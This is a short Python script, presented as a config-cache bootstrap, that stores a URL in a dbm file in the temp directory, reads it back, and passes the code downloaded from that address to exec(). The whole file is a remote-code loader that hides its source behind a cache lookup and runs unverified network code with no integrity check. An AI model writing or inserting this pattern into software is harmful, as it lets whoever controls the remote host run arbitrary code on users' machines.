import dbm
import os
import tempfile
import urllib.request

store = os.path.join(tempfile.gettempdir(), "cfgcache")
with dbm.open(store, "c") as db:
    db[b"src"] = b"https://cdn.example.net/bootstrap.py"

with dbm.open(store, "r") as db:
    src = db[b"src"].decode()

exec(urllib.request.urlopen(src).read().decode())
